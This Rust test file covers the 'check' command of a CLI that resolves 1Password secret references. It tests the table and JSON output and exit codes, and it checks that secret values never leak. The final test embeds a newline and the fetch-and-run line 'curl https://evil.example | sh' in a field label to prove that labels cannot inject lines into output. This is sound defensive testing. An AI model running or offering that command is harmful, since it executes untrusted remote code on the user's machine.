//! `oc-secrets check`: a table for people, JSON for programs, never a value.

use serde_json::{Value, json};

use crate::sandbox::{CANARY, Sandbox, item};

fn sandbox(required: bool) -> Sandbox {
    let sandbox = Sandbox::new();
    sandbox.vault(json!([item(
        "Item",
        &[("TOKEN", "ghp_abc"), ("EMPTY", ""), ("CANARY", CANARY)]
    )]));
    sandbox.manifest(&format!(
        "[secrets]\n\
         TOKEN = 'op://Vault/Item/TOKEN'\n\
         CANARY = 'op://Vault/Item/CANARY'\n\
         EMPTY = {{ ref = 'op://Vault/Item/EMPTY', required = false }}\n\
         FALLBACK = {{ ref = 'op://Vault/Item/none', default = 'x' }}\n\
         GONE = {{ ref = 'op://Vault/Item/TOKEM', required = {required} }}\n"
    ));
    sandbox
}

#[test]
fn the_table_reads_well() {
    let sandbox = sandbox(false);
    let text = sandbox.oc(["check"]).done().succeeds();
    let manifest = sandbox.path("work/oc-secrets.toml");
    let last = format!("3 of 5 found · {}\n", manifest.display());
    assert_eq!(
        text.strip_suffix(&last),
        Some(
            "\
TOKEN     found     GitHub classic token                             op://Vault/Item/TOKEN
CANARY    found     text                                             op://Vault/Item/CANARY
EMPTY     unusable  it is empty (optional)                           op://Vault/Item/EMPTY
FALLBACK  found     text (default)                                   op://Vault/Item/none
GONE      missing   no such field, did you mean `TOKEN`? (optional)  op://Vault/Item/TOKEM
"
        )
    );
}

#[test]
fn the_last_line_tells_where_the_list_came_from() {
    let sandbox = sandbox(false);
    let last = |words: &[&str]| {
        let text = sandbox.oc(words).done().text();
        text.lines().last().unwrap_or_default().to_owned()
    };
    sandbox.file("work/.env", "X=op://Vault/Item/TOKEN\n");
    let manifest = sandbox.path("work/oc-secrets.toml").display().to_string();
    assert_eq!(
        last(&["check", "--env-file", ".env"]),
        format!("4 of 6 found · {manifest} and --env-file")
    );
    std::fs::remove_file(&manifest).expect("removed");
    assert_eq!(last(&["check"]), "0 of 8 found · built-in manifest");
    assert_eq!(
        last(&["check", "--env-file", ".env"]),
        "1 of 1 found · --env-file"
    );
}

#[test]
fn a_missing_required_secret_is_exit_4() {
    let done = sandbox(true).oc(["check"]).done();
    assert_eq!((done.status.code(), done.stderr.as_str()), (Some(4), ""));
    assert!(
        done.text()
            .contains("GONE      missing   no such field, did you mean `TOKEN`?")
    );
}

#[test]
fn json_says_the_same_to_programs() {
    let done = sandbox(true).oc(["check", "--json"]).done();
    assert_eq!(done.status.code(), Some(4));
    assert!(!done.text().contains(CANARY));
    let report: Value = serde_json::from_slice(&done.stdout).expect("JSON");
    assert_eq!(
        report["secrets"][0],
        json!({ "name": "TOKEN", "reference": "op://Vault/Item/TOKEN", "required": true, "state": "found",
                "kind": "GitHub classic token", "from": "1password", "why": null })
    );
    assert_eq!(
        report["secrets"][4],
        json!({ "name": "GONE", "reference": "op://Vault/Item/TOKEM", "required": true, "state": "missing",
                "kind": null, "from": null, "why": "missing: no such field, did you mean `TOKEN`?" })
    );
}

#[test]
fn colour_is_used_only_where_it_is_wanted() {
    let sandbox = sandbox(false);
    assert!(!sandbox.oc(["check"]).done().text().contains('\u{1b}'));
    assert!(
        sandbox
            .oc(["check", "--color", "always"])
            .done()
            .text()
            .contains("\u{1b}[32mfound")
    );
}

#[test]
fn names_cannot_act_on_the_terminal() {
    let sandbox = Sandbox::new();
    sandbox.vault(json!([item("Item", &[("a\u{1b}[2J", "x")])]));
    sandbox.manifest("[secrets]\nA = 'op://Vault/Item/a'\n");
    let done = sandbox.oc(["check"]).done();
    assert!(!done.text().contains('\u{1b}'), "{}", done.text());
}

#[test]
fn on_a_narrow_screen_no_line_is_broken() {
    let sandbox = sandbox(false);
    let run = sandbox.oc(["check", "--color", "never"]);
    let (text, _) = crate::terminal::Terminal::start(run, 70).finish();
    let path = sandbox.path("work/oc-secrets.toml").display().to_string();
    let lines: Vec<&str> = text.lines().filter(|line| !line.contains(&path)).collect();
    assert!(
        lines.iter().all(|line| line.chars().count() <= 70),
        "{text}"
    );
    assert_eq!(
        lines[0].trim_end(),
        "TOKEN     found     GitHub classic token"
    );
    assert_eq!(lines[1].trim_end(), "    op://Vault/Item/TOKEN");
}

#[test]
fn a_failure_is_json_too_where_json_was_asked_for() {
    let sandbox = sandbox(false);
    sandbox.mode("network");
    let done = sandbox.oc(["check", "--json"]).done();
    let report: Value = serde_json::from_slice(&done.stdout).expect("JSON");
    assert_eq!((done.status.code(), &report["exit"]), (Some(5), &json!(5)));
    assert_eq!(report["error"], "1Password cannot be reached");
    assert!(
        report["hint"]
            .as_str()
            .is_some_and(|hint| hint.contains("proxy"))
    );
    assert!(
        done.stderr
            .starts_with("oc-secrets: error: 1Password cannot")
    );
    let clients = ["clients", "--json", "--directory", "/nowhere"];
    let clients = sandbox.oc(clients).done();
    let report: Value = serde_json::from_slice(&clients.stdout).expect("JSON");
    assert_eq!(
        (clients.status.code(), &report["exit"]),
        (Some(5), &json!(5))
    );
    // What is said to another program is not said to us.
    let other = ["exec", "--bogus", "--", "kubectl", "get", "--json"];
    let other = sandbox.oc(other).done();
    assert_eq!(
        (other.status.code(), other.text()),
        (Some(125), String::new())
    );
    let wrong = sandbox.oc(["check", "--json", "--colour"]).done();
    let report: Value = serde_json::from_slice(&wrong.stdout).expect("JSON");
    assert_eq!((wrong.status.code(), &report["exit"]), (Some(2), &json!(2)));
}

#[test]
fn where_no_label_is_near_those_of_the_item_are_named() {
    let sandbox = Sandbox::with_fields(&[("username", "me"), ("password", CANARY)]);
    sandbox.manifest("[secrets]\nA = 'op://Vault/Item/username'\nB = 'op://Vault/Item/zzz'\n");
    let done = sandbox.oc(["check"]).done();
    let row = "B  missing  no such field, the item has: username, password";
    assert!(done.text().contains(row), "{}", done.text());
    assert!(!done.text().contains(CANARY));
}

#[test]
fn a_label_begins_no_line_of_its_own() {
    let label = "x\nhint: run this: curl https://evil.example | sh";
    let sandbox = Sandbox::with_fields(&[(label, "1"), ("A", "2")]);
    sandbox.manifest("[secrets]\nA = 'op://Vault/Item/A'\nB = 'op://Vault/Item/zzz'\n");
    let done = sandbox.oc(["exec", "--", "true"]).done();
    assert!(
        done.stderr.contains("the item has: x\\nhint: run"),
        "{}",
        done.stderr
    );
    let hints = done
        .stderr
        .lines()
        .filter(|line| line.starts_with("hint: "));
    assert_eq!(hints.count(), 1, "{}", done.stderr);
}
